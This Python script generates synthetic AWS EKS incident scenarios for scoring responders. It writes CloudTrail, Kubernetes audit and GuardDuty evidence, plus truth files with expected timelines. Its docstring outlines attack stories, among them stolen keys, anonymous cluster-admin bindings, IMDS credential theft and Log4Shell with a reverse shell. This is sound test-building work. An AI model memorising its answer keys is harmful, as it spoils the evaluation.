#!/usr/bin/env python3
"""Generate eight scenarios for attacker scoping and image vulnerabilities under examples/scenarios/.

  access-entry-xacct/  a stolen IAM user key gives a role in another account an EKS access entry with
                       AmazonEKSClusterAdminPolicy; that role's sessions read secrets and deploy a
                       Deployment whose pods land on two nodes (prod-ledger, eu-west-1).
  anonymous-binding/   a stolen admin session binds cluster-admin to system:unauthenticated under a
                       system-looking name; anonymous requests from the internet then list secrets and
                       start a privileged pod (prod-catalog, ap-southeast-2).
  aws-auth-cronjob/    a CI/CD key used from outside its runners adds a role trusted by another account
                       to aws-auth and creates a CronJob whose Jobs run on two nodes; the role is later
                       assumed from that account (prod-checkout, us-east-2).
  imds-s3-exfil/       a stolen service-account token creates a DaemonSet whose pods read the node role's
                       credentials from IMDS on two nodes; those credentials list and download an S3
                       bucket from outside AWS (prod-analytics, eu-central-1).
  logging-off/         a stolen SSO admin session blinds CloudTrail, turns off control-plane logging,
                       opens the endpoint, creates an IAM user and key and assumes a pre-existing CI
                       role (prod-identity, ca-central-1).
  shared-ground/       five engineers share an office address and touch the same pod and secret; one's SSO
                       session, stolen, binds cluster-admin to a new service account whose token starts a
                       privileged pod; the policy names no trusted address or admin (prod-finance, eu-north-1).
  vulnerable-web-image/ Log4Shell in a Java web app whose image Inspector reports (joined by digest): a reverse shell, an
                       IMDS probe, the pod's token used, a tunnelling tool; look-alikes: an image with HIGH findings and
                       no exploit, a Trivy report of the same tag at an older digest (prod-portal, ap-northeast-1).
  vulnerable-images-benign/ a benign production day on images with CRITICAL/HIGH findings (ECR basic scan joined by
                       digest, Grype joined by tag only): Medium, nothing exploited (prod-travel, eu-west-3).

Each scenario is an evidence folder, its truth file (`<name>.truth.json`, with the machine-scorable
`expect` block tests/scenarios reads) and its organisation policy (`<name>.eksir.yaml`) beside it.
The file forms and the helpers are those of make-scenarios.py, which this script imports.

Deterministic: fixed seeds, fixed timestamps, gzip mtime 0. Standard library only.

    python3 examples/make-attack-scenarios.py            # writes examples/scenarios/
    python3 examples/make-attack-scenarios.py --out DIR  # writes DIR/... instead
"""

import argparse
import base64
import gzip
import hashlib
import importlib.util
import ipaddress
import json
import os
import random
import re
import sys
import urllib.parse
from datetime import datetime, timedelta, timezone

HERE = os.path.dirname(os.path.abspath(__file__))
_spec = importlib.util.spec_from_file_location("make_scenarios", os.path.join(HERE, "make-scenarios.py"))
M = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(M)

T, iso_us, iso_s, iso_ms, epoch, epoch_ms, epoch_ns = M.T, M.iso_us, M.iso_s, M.iso_ms, M.epoch, M.epoch_ms, M.epoch_ns
audit, oref, ct, falco, finding = M.audit, M.oref, M.ct, M.falco, M.finding
u_sa, u_plain, crb_reason, rb_reason, policy_reason = M.u_sa, M.u_plain, M.crb_reason, M.rb_reason, M.policy_reason
stable_uuid, uid, sha, dumps_compact, dumps_cli, write, gz = M.stable_uuid, M.uid, M.sha, M.dumps_compact, M.dumps_cli, M.write, M.gz
Node, k8s_list, meta = M.Node, M.k8s_list, M.meta


def S():
    return M.S


def new_scenario(name, seed, account, region, cluster, day, cp_ips, detector):
    M.S = M.Scenario(name, seed, account, region, cluster, day)
    M.S.cp_ips = cp_ips
    M.S.detector = detector
    return M.S


def later(t, seconds=0, ms_lo=3, ms_hi=900):
    """t plus whole seconds and a few (seeded) milliseconds."""
    return t + timedelta(seconds=seconds, microseconds=S().rng.randint(ms_lo * 1000, ms_hi * 1000))


def parse_t(text):
    text = text.replace("Z", "")
    fmt = "%Y-%m-%dT%H:%M:%S.%f" if "." in text else "%Y-%m-%dT%H:%M:%S"
    return datetime.strptime(text[:26], fmt).replace(tzinfo=timezone.utc)


# ---------------------------------------------------------------------------------------------
# Identities
# ---------------------------------------------------------------------------------------------
def u_iam(username, groups, account, arn, canonical, session, key, principal):
    """A Kubernetes user authenticated by aws-iam-authenticator (access entry or aws-auth)."""
    return {"username": username, "uid": f"aws-iam-authenticator:{account}:{principal.split(':')[0]}",
            "groups": groups + ["system:authenticated"],
            "extra": {"accessKeyId": [key], "arn": [arn], "canonicalArn": [canonical], "principalId": [principal],
                      "sessionName": [session], "sigs.k8s.io/aws-iam-authenticator/principalId": [principal]}}


def u_role(username, groups, account, role, role_id, session, key):
    return u_iam(username, groups, account, f"arn:aws:sts::{account}:assumed-role/{role}/{session}",
                 f"arn:aws:iam::{account}:role/{role}", session, key, f"{role_id}:{session}")


def u_user(username, groups, user, user_id, key):
    a = S().account
    return u_iam(username, groups, a, f"arn:aws:iam::{a}:user/{user}", f"arn:aws:iam::{a}:user/{user}", "", key, user_id)


def id_user(user, user_id, key):
    return {"type": "IAMUser", "principalId": user_id, "arn": f"arn:aws:iam::{S().account}:user/{user}",
            "accountId": S().account, "accessKeyId": key, "userName": user}


def cli_ua(command, version="2.15.30", python="3.11.8", os_="Linux/6.6.15-amd64", exe="x86_64.kali.2024"):
    return f"aws-cli/{version} Python/{python} {os_} exe/{exe} prompt/off command/{command}"


# ---------------------------------------------------------------------------------------------
# Kubernetes objects made by the controllers: the audit trail of a workload's pods
# ---------------------------------------------------------------------------------------------
def owner_ref(kind, name, ns):
    api = {"Job": "batch/v1", "CronJob": "batch/v1"}.get(kind, "apps/v1")
    return {"apiVersion": api, "kind": kind, "name": name, "uid": stable_uuid(f"{kind}/{ns}/{name}"),
            "controller": True, "blockOwnerDeletion": True}


def kcm_ua(server, controller):
    return f"kube-controller-manager/{server} (linux/amd64) kubernetes/{server[-7:]}/system:serviceaccount:kube-system:{controller}"


def sched_ua(server):
    return f"kube-scheduler/{server} (linux/amd64) kubernetes/{server[-7:]}/scheduler"


def controller_reason(controller):
    return crb_reason(f"system:controller:{controller}", f"system:controller:{controller}", "ServiceAccount",
                      f"{controller}/kube-system")


def controller_pod(C, t, ns, name, owner, node, containers, sa, controller, label, step, labels=None, host_network=False,
                   phase="Running", tolerations=None, node_selector=None, image_ids=None, pod_ip=None):
    """The controller creates the pod (ownerReferences), the scheduler binds it, the kubelet fetches its
    token and reports it. Returns the time of the last record. image_ids: container name -> the imageID the
    kubelet reports (repository@sha256:..., or the bare image id of an image without a repository digest);
    pod_ip: the podIP it reports."""
    user = u_sa("kube-system", controller)
    pod_uid = stable_uuid(f"pod/{ns}/{name}")
    spec = {"containers": containers, "serviceAccountName": sa, "restartPolicy": "OnFailure" if owner["kind"] == "Job" else "Always"}
    if host_network:
        spec["hostNetwork"] = True
    if tolerations:
        spec["tolerations"] = tolerations
    if node_selector:
        spec["nodeSelector"] = node_selector
    if owner["kind"] == "DaemonSet":
        spec["affinity"] = {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
            {"matchFields": [{"key": "metadata.name", "operator": "In", "values": [node.name]}]}]}}}
    gen = name.rsplit("-", 1)[0] + "-"
    md = {"generateName": gen, "namespace": ns, "labels": labels or {}, "ownerReferences": [owner]}
    created = audit(t, user, "create", f"/api/v1/namespaces/{ns}/pods", oref("pods", ns, name), code=201, level="RequestResponse",
          ua=kcm_ua(C["server"], controller), req={"kind": "Pod", "apiVersion": "v1", "metadata": md, "spec": spec},
          resp={"kind": "Pod", "apiVersion": "v1", "metadata": dict(md, name=name, uid=pod_uid,
                                                                     creationTimestamp=iso_s(t)), "spec": spec,
                "status": {"phase": "Pending", "qosClass": "BestEffort"}},
          reason=controller_reason(controller), label=label, step=step)
    tb = later(parse_t(created["stageTimestamp"]), 0, 4, 30)
    audit(tb, u_plain("system:kube-scheduler", ["system:authenticated"]), "create", f"/api/v1/namespaces/{ns}/pods/{name}/binding",
          oref("pods", ns, name, sub="binding"), code=201, level="RequestResponse", ua=sched_ua(C["server"]),
          req={"kind": "Binding", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns, "uid": pod_uid},
               "target": {"kind": "Node", "name": node.name}},
          resp={"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Success", "code": 201},
          reason=crb_reason("system:kube-scheduler", "system:kube-scheduler", "User", "system:kube-scheduler"), label=label, step=step)
    tt = later(t, S().rng.randint(2, 4))
    audit(tt, M.u_node(node, C["node_role"], C["node_role_id"]), "create", f"/api/v1/namespaces/{ns}/serviceaccounts/{sa}/token",
          oref("serviceaccounts", ns, sa, sub="token"), code=201, level="Request", ua=C["kubelet"], src=[node.ip],
          req={"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "metadata": {"creationTimestamp": None},
               "spec": {"audiences": ["https://kubernetes.default.svc"], "expirationSeconds": 3607,
                        "boundObjectRef": {"kind": "Pod", "apiVersion": "v1", "name": name, "uid": pod_uid}}},
          label=label, step=step)
    ts = later(tt, S().rng.randint(3, 5))
    cstat = [{"name": c["name"], "image": c["image"], "containerID": "containerd://" + M.container_id(ns, name, c["name"]),
              "ready": phase == "Running", "started": phase == "Running",
              "state": ({"running": {"startedAt": iso_s(ts)}} if phase == "Running"
                        else {"terminated": {"exitCode": 0, "reason": "Completed", "startedAt": iso_s(ts)}})}
             for c in containers]
    if image_ids:
        cstat = [{k: v for k, v in list(cs.items())[:2]} | ({"imageID": image_ids[cs["name"]]} if cs["name"] in image_ids else {})
                 | {k: v for k, v in list(cs.items())[2:]} for cs in cstat]
    st = {"phase": phase, "hostIP": node.ip}
    if pod_ip:
        st["podIP"] = pod_ip
    st["containerStatuses"] = cstat
    audit(ts, M.u_node(node, C["node_role"], C["node_role_id"]), "patch", f"/api/v1/namespaces/{ns}/pods/{name}/status",
          oref("pods", ns, name, sub="status", uid_=pod_uid), level="Request", ua=C["kubelet"], src=[node.ip],
          req={"metadata": {"uid": pod_uid}, "status": st}, label=label, step=step)
    return ts


# ---------------------------------------------------------------------------------------------
# Background noise (every scenario): kubelets, control plane, metrics; node role calls in CloudTrail
# ---------------------------------------------------------------------------------------------
def audit_background(C, start, end, gap=(40, 70)):
    t, i = start, 0
    nodes = C["nodes"]
    while t < end:
        k = i % 5
        n = nodes[i % len(nodes)]
        if k in (0, 2):
            M.node_lease(n, t, C["kubelet"], C["node_role"], C["node_role_id"])
        elif k == 1:
            M.cp_lease(t, "kube-controller-manager" if i % 2 else "kube-scheduler", C["server"])
        elif k == 3:
            audit(t, u_plain("eks:k8s-metrics", ["system:authenticated"]), "get", "/metrics", ua="Go-http-client/1.1",
                  reason=crb_reason("eks:k8s-metrics", "eks:k8s-metrics", "User", "eks:k8s-metrics"))
        else:
            ms_pod, ms_node, ms_ip = C["metrics_server"]
            audit(t, u_sa("kube-system", "metrics-server", ms_pod, stable_uuid(f"pod/kube-system/{ms_pod}"), ms_node), "create",
                  "/apis/authentication.k8s.io/v1/tokenreviews", oref("tokenreviews", group="authentication.k8s.io"), code=201,
                  ua="metrics-server/v0.7.2 (linux/amd64) kubernetes/$Format", src=[ms_ip],
                  reason=crb_reason("metrics-server:system:auth-delegator", "system:auth-delegator", "ServiceAccount",
                                    "metrics-server/kube-system"))
        i += 1
        t += timedelta(seconds=S().rng.randint(*gap), microseconds=S().rng.randint(0, 999999))
    t = start.replace(minute=start.minute - start.minute % 15, second=0, microsecond=0) + timedelta(minutes=15)
    while t < end:
        for j, n in enumerate(nodes):
            M.node_status(n, t + timedelta(seconds=7 + 13 * j, microseconds=S().rng.randint(0, 999999)), C["kubelet"],
                          C["node_role"], C["node_role_id"])
        t += timedelta(minutes=15)


CNI_UA = ("aws-sdk-go-v2/1.32.7 ua/2.1 os/linux lang/go#1.23.4 md/GOOS#linux md/GOARCH#amd64 api/ec2#1.198.1 m/E "
          "amazon-vpc-cni-k8s/v1.19.2")
ECR_UA = ("aws-sdk-go-v2/1.32.7 ua/2.1 os/linux lang/go#1.23.4 md/GOOS#linux md/GOARCH#amd64 api/ecr#1.38.3 m/E "
          "ecr-credential-provider")


def node_session(C, n, created):
    return M.id_role(C["node_role"], C["node_role_id"], n.instance, n.asia, created, {"ec2RoleDelivery": "2.0"})


def cloudtrail_background(C, hours, step="background", label="benign"):
    """The VPC CNI and the ECR credential provider on every node, through the NAT gateway."""
    for h in hours:
        for j, n in enumerate(C["nodes"]):
            tt = T(f"{h:02d}:{(11 * j + 4) % 60:02d}:{(17 * j + 9) % 60:02d}")
            ident = node_session(C, n, tt - timedelta(minutes=25))
            ct(tt, ident, "ec2.amazonaws.com", "DescribeNetworkInterfaces",
               params={"networkInterfaceIdSet": {}, "filterSet": {"items": [
                   {"name": "attachment.instance-id", "valueSet": {"items": [{"value": n.instance}]}}]}},
               ip=C["nat"], ua=CNI_UA, step=step, label=label)
            if (h + j) % 3 == 0:
                ct(tt + timedelta(seconds=41), ident, "ecr.amazonaws.com", "GetAuthorizationToken",
                   params={"registryIds": [C["eks_registry_account"]]}, ip=C["nat"], ua=ECR_UA, step=step, label=label)


# ---------------------------------------------------------------------------------------------
# Writers: every file form a responder is handed
# ---------------------------------------------------------------------------------------------
def ct_records(pred=None):
    return [r for r, _, _ in S().CT if pred is None or pred(r)]


def write_ct_s3(base, files, recs, sub="cloudtrail"):
    """S3 delivery objects: one per 5-minute window and region, named by delivery time, records unordered."""
    buckets = {}
    for r in recs:
        t = parse_t(r["eventTime"])
        delivered = t.replace(minute=t.minute - t.minute % 5, second=0) + timedelta(minutes=10)
        buckets.setdefault((r["awsRegion"], delivered), []).append(r)
    for (region, delivered) in sorted(buckets):
        rs = sorted(buckets[(region, delivered)], key=lambda r: (r["eventTime"], r["eventID"]))
        random.Random(S().name + region + delivered.isoformat()).shuffle(rs)
        stamp = delivered.strftime("%Y%m%dT%H%MZ")
        name = f"{S().account}_CloudTrail_{region}_{stamp}_{hashlib.sha256((S().name + region + stamp).encode()).hexdigest()[:16]}.json.gz"
        rel = f"{sub}/{name}"
        write(os.path.join(base, rel), gz(('{"Records":[' + ",".join(dumps_compact(r) for r in rs) + "]}").encode()))
        files[rel] = len(rs)


def write_ct_lookup(base, files, recs, rel, username_of):
    """`aws cloudtrail lookup-events` output, newest first; CloudTrailEvent is the record as a string."""
    recs = sorted(recs, key=lambda r: (r["eventTime"], r["eventID"]), reverse=True)
    events = []
    for r in recs:
        p = r.get("requestParameters") or {}
        res = []
        if r["eventSource"] == "eks.amazonaws.com":
            res = [{"ResourceType": "AWS::EKS::Cluster", "ResourceName": p.get("name", p.get("clusterName", S().cluster))}]
        elif r["eventSource"] == "iam.amazonaws.com" and p.get("userName"):
            res = [{"ResourceType": "AWS::IAM::User", "ResourceName": p["userName"]}]
        elif r["eventSource"] == "iam.amazonaws.com" and p.get("roleName"):
            res = [{"ResourceType": "AWS::IAM::Role", "ResourceName": p["roleName"]}]
        elif r["eventSource"] == "cloudtrail.amazonaws.com":
            res = [{"ResourceType": "AWS::CloudTrail::Trail", "ResourceName": p.get("name", p.get("trailName", ""))}]
        e = {"EventId": r["eventID"], "EventName": r["eventName"], "ReadOnly": "true" if r["readOnly"] else "false"}
        if r["userIdentity"].get("accessKeyId"):
            e["AccessKeyId"] = r["userIdentity"]["accessKeyId"]
        e.update({"EventTime": parse_t(r["eventTime"]).strftime("%Y-%m-%dT%H:%M:%S+00:00"), "EventSource": r["eventSource"],
                  "Username": username_of(r), "Resources": res, "CloudTrailEvent": dumps_compact(r)})
        events.append(e)
    write(os.path.join(base, rel), dumps_cli({"Events": events}))
    files[rel] = len(events)


def write_ct_eventbridge(base, files, recs, rel):
    """EventBridge `AWS API Call via CloudTrail` envelopes, one per line (the target of a rule)."""
    lines = []
    for r in sorted(recs, key=lambda r: (r["eventTime"], r["eventID"])):
        lines.append(dumps_compact({"version": "0", "id": stable_uuid("eb-ct" + r["eventID"]), "detail-type": "AWS API Call via CloudTrail",
                                    "source": "aws." + r["eventSource"].split(".")[0], "account": S().account,
                                    "time": r["eventTime"], "region": r["awsRegion"], "resources": [], "detail": r}))
    write(os.path.join(base, rel), "\n".join(lines) + "\n")
    files[rel] = len(lines)


def audit_events(pred=None):
    return [ev for ev, _, _ in M.audit_sorted() if pred is None or pred(ev)]


def stamp_ms(ev):
    return epoch_ms(parse_t(ev["stageTimestamp"]))


def log_event_id(ev):
    return str(int(hashlib.sha256(ev["auditID"].encode() + ev["stage"].encode()).hexdigest(), 16))[:56]


def write_audit_log(base, files, evs, rel="k8s-audit/kube-apiserver-audit.log"):
    write(os.path.join(base, rel), "\n".join(dumps_compact(ev) for ev in evs) + "\n")
    files[rel] = len(evs)


def stream_of(ev, streams):
    return streams[int(hashlib.md5((ev["auditID"] + ev["stage"]).encode()).hexdigest(), 16) % len(streams)]


def write_audit_filter(base, files, evs, streams, rel="k8s-audit/filter-log-events.json"):
    """`aws logs filter-log-events` output: events[].message is the audit event as a string."""
    srng = random.Random(S().name + "filter")
    events = [{"logStreamName": stream_of(ev, streams), "timestamp": stamp_ms(ev), "message": dumps_compact(ev),
               "ingestionTime": stamp_ms(ev) + srng.randint(900, 3500), "eventId": log_event_id(ev)} for ev in evs]
    write(os.path.join(base, rel), dumps_cli({"events": events, "searchedLogStreams": []}))
    files[rel] = len(events)


def write_audit_get_log_events(base, files, evs, streams, sub="k8s-audit"):
    """`aws logs get-log-events` output, one file per log stream."""
    srng = random.Random(S().name + "getlog")
    for s in streams:
        mine = [ev for ev in evs if stream_of(ev, streams) == s]
        out = {"events": [{"timestamp": stamp_ms(ev), "message": dumps_compact(ev), "ingestionTime": stamp_ms(ev) + srng.randint(900, 3500)}
                          for ev in mine],
               "nextForwardToken": "f/" + str(int(sha("fwd" + s)[:16], 16))[:56].rjust(56, "3"),
               "nextBackwardToken": "b/" + str(int(sha("bwd" + s)[:16], 16))[:56].rjust(56, "3")}
        rel = f"{sub}/get-log-events-{s}.json"
        write(os.path.join(base, rel), dumps_cli(out))
        files[rel] = len(mine)


def subscription_payloads(evs, streams, window_s=120, per=25):
    """CloudWatch Logs subscription DATA_MESSAGE payloads, as a subscription filter delivers them: the events
    of one log stream that arrive within a short window, at most `per` at a time."""
    out = []
    group = f"/aws/eks/{S().cluster}/cluster"
    for s in streams:
        batches, cur, cur_key = [], [], None
        for ev in (ev for ev in evs if stream_of(ev, streams) == s):
            key = stamp_ms(ev) // (window_s * 1000)
            if cur and (key != cur_key or len(cur) == per):
                batches.append(cur)
                cur = []
            cur.append(ev)
            cur_key = key
        if cur:
            batches.append(cur)
        for n, batch in enumerate(batches):
            out.append((stamp_ms(batch[0]), s, n, {
                "messageType": "DATA_MESSAGE", "owner": S().account, "logGroup": group, "logStream": s,
                "subscriptionFilters": [f"{S().cluster}-audit-to-siem"],
                "logEvents": [{"id": log_event_id(ev), "timestamp": stamp_ms(ev), "message": dumps_compact(ev)} for ev in batch]}))
    out.sort(key=lambda x: (x[0], x[1]))
    return out


def write_audit_subscription_files(base, files, evs, streams, sub="k8s-audit/subscription", window_s=900):
    """One gzip file per subscription payload (as a Lambda consumer archives what it receives)."""
    for first, s, n, payload in subscription_payloads(evs, streams, window_s=window_s):
        rel = f"{sub}/{s}-{n:03d}.json.gz"
        write(os.path.join(base, rel), gz(dumps_compact(payload).encode()))
        files[rel] = len(payload["logEvents"])


def write_audit_firehose(base, files, evs, streams, sub="k8s-audit/firehose"):
    """Kinesis Data Firehose S3 objects: gzip subscription payloads concatenated, one object per 15 minutes."""
    objs = {}
    for first, s, n, payload in subscription_payloads(evs, streams):
        t = datetime.fromtimestamp(first / 1000, tz=timezone.utc)
        key = t.replace(minute=t.minute - t.minute % 15, second=0, microsecond=0)
        objs.setdefault(key, []).append(payload)
    for key in sorted(objs):
        data = b"".join(gz(dumps_compact(p).encode()) for p in objs[key])
        name = (f"{S().cluster}-audit-stream-1-{key.strftime('%Y-%m-%d-%H-%M-%S')}-"
                f"{stable_uuid('fh' + key.isoformat())}")
        rel = f"{sub}/{key.strftime('%Y/%m/%d/%H')}/{name}"
        write(os.path.join(base, rel), data)
        files[rel] = sum(len(p["logEvents"]) for p in objs[key])


def write_guardduty_cli(base, files, rel="guardduty/findings.json"):
    fs = sorted(S().FINDINGS, key=lambda f: f[0]["createdAt"])
    write(os.path.join(base, rel), dumps_cli({"Findings": [M.to_cli(f) for f, _, _ in fs]}))
    files[rel] = len(fs)


def write_guardduty_eventbridge(base, files, rel="guardduty/eventbridge.jsonl"):
    fs = sorted(S().FINDINGS, key=lambda f: f[0]["createdAt"])
    lines = [dumps_compact({"version": "0", "id": stable_uuid("eb" + f["id"]), "detail-type": "GuardDuty Finding",
                            "source": "aws.guardduty", "account": S().account, "time": f["updatedAt"][:19] + "Z",
                            "region": S().region, "resources": [], "detail": f}) for f, _, _ in fs]
    write(os.path.join(base, rel), "\n".join(lines) + "\n")
    files[rel] = len(fs)


def write_falco(base, files):
    M.write_falco(base, files)


def write_ocsf(base, files):
    M.write_ocsf(base, files)


def write_snapshot(base, files, snap):
    M.write_snapshot(base, files, snap)


# ---------------------------------------------------------------------------------------------
# Truth: the records, the story, and the `expect` block the scorer reads
# ---------------------------------------------------------------------------------------------
DETECTION_SOURCES = ("guardduty", "falco", "ocsf")


def expected_timeline(recs, label="attack"):
    """One entry per attack record (an audit event logged at two stages counts once, at its first)."""
    seen = {}
    for r in recs:
        if r["label"] != label:
            continue
        if r["id"] in seen and seen[r["id"]]["time"] <= r["time"]:
            continue
        seen[r["id"]] = {"time": r["time"], "tag": "DETECTION" if r["source"] in DETECTION_SOURCES else "INCIDENT",
                         "event_id": r["id"], "what": f'{r["source"]} {r["name"]}'}
        if r["source"] == "ocsf":   # an OCSF finding also goes by its metadata.uid
            seen[r["id"]]["alt_event_ids"] = [o["metadata"]["uid"] for o, _, _ in S().OCSF if o["finding_info"]["uid"] == r["id"]]
    return sorted(seen.values(), key=lambda e: (e["time"], e["event_id"]))


def lookalike_ids(recs, steps):
    out, seen = [], set()
    for r in recs:
        if r["label"] == "benign" and r["step"] in steps and r["id"] not in seen:
            seen.add(r["id"])
            out.append({"event_id": r["id"], "what": f'{r["source"]} {r["name"]} ({r["step"]})'})
    return out


def activity_window(recs):
    """First and last malicious activity: API calls and the runtime events Falco saw as they happened
    (the findings of GuardDuty and the EDR come later and are detections, not activity)."""
    times = [parse_t(r["time"]) for r in recs if r["label"] == "attack" and r["source"] not in ("guardduty", "ocsf")]
    if not times:   # a benign day: no malicious window
        return None, None
    return iso_s(min(times)), iso_s(max(times))


def finish_truth(out, name, head, files, expect, lookalike_steps=(), extra_last=None):
    recs = M.truth_records()
    first, last = activity_window(recs)
    if extra_last and extra_last > last:
        last = extra_last
    e = dict(expect)
    if first:
        e.setdefault("window", {"first": first, "last": last})
    e["timeline"] = expected_timeline(recs)
    e["timeline_not"] = lookalike_ids(recs, set(lookalike_steps))
    keyed = {}
    for k in ("pending", "severity", "criteria", "criteria_not", "window", "gaps", "timeline", "timeline_not", "affected",
              "not_affected", "plan_args", "recover_after", "plan", "plan_not", "plan_order"):
        if k in e:
            keyed[k] = e[k]
    h = dict(head)
    h["expect"] = keyed
    return M.write_truth(os.path.join(out, f"{name}.truth.json"), h, files)


# ---------------------------------------------------------------------------------------------
# The re-read check: every file parses, duplicates across forms agree, truth and evidence match
# ---------------------------------------------------------------------------------------------
DOC_NETS = [ipaddress.ip_network(n) for n in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24")]


def read_all(base):
    texts, docs, problems = {}, {}, []
    for root, _, names in os.walk(base):
        for name in sorted(names):
            path = os.path.join(root, name)
            rel = os.path.relpath(path, base).replace(os.sep, "/")
            with open(path, "rb") as f:
                data = f.read()
            if data[:2] == b"\x1f\x8b":
                data = gzip.decompress(data)   # concatenated members too
            text = data.decode("utf-8")
            texts[rel] = text
            try:
                if rel.endswith((".jsonl", ".log")):
                    docs[rel] = [json.loads(line) for line in text.splitlines()]
                elif rel.startswith("k8s-audit/firehose/"):
                    dec, pos, objs = json.JSONDecoder(), 0, []
                    while pos < len(text):
                        o, pos = dec.raw_decode(text, pos)
                        objs.append(o)
                    docs[rel] = objs
                else:
                    docs[rel] = json.loads(text)
            except ValueError as e:
                problems.append(f"{rel}: not valid JSON: {e}")
    return texts, docs, problems


def check(base, truth_path, consistency=None):
    texts, docs, problems = read_all(base)
    if problems:
        return problems
    ct_seen, audit_seen, gd_seen = {}, {}, {}

    def add_ct(rel, r):
        if r["eventID"] in ct_seen and ct_seen[r["eventID"]] != r:
            problems.append(f"{rel}: CloudTrail record {r['eventID']} differs from another copy")
        ct_seen[r["eventID"]] = r

    def add_audit(rel, ev, form_keys):
        k = (ev["auditID"], ev["stage"])
        if k in form_keys:
            problems.append(f"{rel}: duplicate (auditID, stage) {k}")
        form_keys.add(k)
        if k in audit_seen and audit_seen[k] != ev:
            problems.append(f"{rel}: audit event {k} differs from another copy")
        audit_seen[k] = ev

    for rel, d in sorted(docs.items()):
        if rel.startswith("cloudtrail/"):
            if isinstance(d, dict) and "Records" in d:
                ids = [r["eventID"] for r in d["Records"]]
                if len(set(ids)) != len(ids):
                    problems.append(f"{rel}: duplicate eventID")
                for r in d["Records"]:
                    add_ct(rel, r)
            elif isinstance(d, dict) and "Events" in d:
                for e in d["Events"]:
                    r = json.loads(e["CloudTrailEvent"])
                    if r["eventID"] != e["EventId"]:
                        problems.append(f"{rel}: EventId {e['EventId']} != the record's eventID")
                    add_ct(rel, r)
            elif isinstance(d, list):
                for e in d:
                    if e.get("detail-type") != "AWS API Call via CloudTrail":
                        problems.append(f"{rel}: not an EventBridge CloudTrail envelope")
                    add_ct(rel, e["detail"])
        elif rel.startswith("k8s-audit/"):
            keys = set()
            if isinstance(d, list) and d and "kind" in d[0]:
                for ev in d:
                    add_audit(rel, ev, keys)
            elif isinstance(d, dict) and "events" in d:
                for e in d["events"]:
                    add_audit(rel, json.loads(e["message"]), keys)
            else:
                for p in (d if isinstance(d, list) else [d]):
                    for e in p["logEvents"]:
                        add_audit(rel, json.loads(e["message"]), set())
        elif rel.startswith("guardduty/"):
            items = d["Findings"] if isinstance(d, dict) else [e["detail"] for e in d]
            for f in items:
                gd_seen[f.get("id", f.get("Id"))] = True
    for rel, text in texts.items():
        for m in set(re.findall(r"(?<![\d./])(\d{1,3}(?:\.\d{1,3}){3})(?![\d.])", text)):
            try:
                ip = ipaddress.ip_address(m)
            except ValueError:
                continue
            if ip.is_private or ip.is_unspecified or ip.is_loopback or any(ip in n for n in DOC_NETS):
                continue
            problems.append(f"{rel}: address {m} is neither private nor a documentation address")
    with open(truth_path) as f:
        truth = json.load(f)
    recs = truth["records"]
    want_ct = {r["id"] for r in recs if r["source"] == "cloudtrail"}
    want_audit = {(r["id"], r["stage"]) for r in recs if r["source"] == "k8s-audit"}
    want_gd = {r["id"] for r in recs if r["source"] == "guardduty"}
    if want_ct != set(ct_seen):
        problems.append(f"truth and CloudTrail evidence differ: {len(want_ct - set(ct_seen))} records not in any file, "
                        f"{len(set(ct_seen) - want_ct)} not in the truth")
    if want_audit != set(audit_seen):
        problems.append(f"truth and audit evidence differ: {len(want_audit - set(audit_seen))} missing, "
                        f"{len(set(audit_seen) - want_audit)} extra")
    if want_gd != set(gd_seen):
        problems.append("truth and GuardDuty evidence differ")
    ids = {r["id"] for r in recs}
    for e in truth["expect"]["timeline"] + truth["expect"]["timeline_not"]:
        if e["event_id"] not in ids:
            problems.append(f"expect: {e['event_id']} is not a record of the truth")
    if consistency:
        problems += consistency(docs)
    return problems




def cluster_common(C, name, server, kubelet):
    C["server"], C["kubelet"] = server, kubelet
    C["eks_registry_account"] = "602401143452"


def system_pods(C, ns_ips):
    """aws-node and kube-proxy on every node, two CoreDNS replicas and metrics-server:
    (name, ns, node, ip, kind, owner, image, sa)"""
    eks = f"602401143452.dkr.ecr.{S().region}.amazonaws.com"
    out = []
    for n in C["nodes"]:
        out.append((f"aws-node-{M.suffix('an' + n.name)}", "kube-system", n, n.ip, "DaemonSet", "aws-node",
                    f"{eks}/amazon-k8s-cni:v1.19.2-eksbuild.1", "aws-node"))
        out.append((f"kube-proxy-{M.suffix('kp' + n.name)}", "kube-system", n, n.ip, "DaemonSet", "kube-proxy",
                    f"{eks}/eks/kube-proxy:{C['kube_proxy']}", "kube-proxy"))
    a, b = C["nodes"][0], C["nodes"][1]
    out.append((f"coredns-{C['coredns_rs']}-{M.suffix('cd1')}", "kube-system", a, ns_ips[0], "ReplicaSet", f"coredns-{C['coredns_rs']}",
                f"{eks}/eks/coredns:v1.11.4-eksbuild.2", "coredns"))
    out.append((f"coredns-{C['coredns_rs']}-{M.suffix('cd2')}", "kube-system", b, ns_ips[1], "ReplicaSet", f"coredns-{C['coredns_rs']}",
                f"{eks}/eks/coredns:v1.11.4-eksbuild.2", "coredns"))
    ms_name, ms_node, ms_ip = C["metrics_server"]
    out.append((ms_name, "kube-system", ms_node, ms_ip, "ReplicaSet", ms_name.rsplit("-", 1)[0],
                "registry.k8s.io/metrics-server/metrics-server:v0.7.2", "metrics-server"))
    return out


def system_pod_objects(C, created, ns_ips):
    pods = []
    for name, ns, n, ip, kind, own, image, sa in system_pods(C, ns_ips):
        c = {"name": own if kind == "DaemonSet" else sa, "image": image, "resources": {"requests": {"cpu": "25m"}}}
        vols, hostnet, labels, pc, tol = [], False, {"k8s-app": own}, "system-cluster-critical", None
        if own == "aws-node":
            hostnet, pc, tol = True, "system-node-critical", [{"operator": "Exists"}]
            c["securityContext"] = {"capabilities": {"add": ["NET_ADMIN", "NET_RAW"]}}
            c["volumeMounts"] = [{"name": "cni-bin-dir", "mountPath": "/host/opt/cni/bin"}, {"name": "cni-net-dir", "mountPath": "/host/etc/cni/net.d"}]
            vols = [{"name": "cni-bin-dir", "hostPath": {"path": "/opt/cni/bin", "type": ""}},
                    {"name": "cni-net-dir", "hostPath": {"path": "/etc/cni/net.d", "type": ""}}]
        elif own == "kube-proxy":
            hostnet, pc, tol = True, "system-node-critical", [{"operator": "Exists"}]
            c["securityContext"] = {"privileged": True}
            c["volumeMounts"] = [{"name": "lib-modules", "mountPath": "/lib/modules", "readOnly": True}]
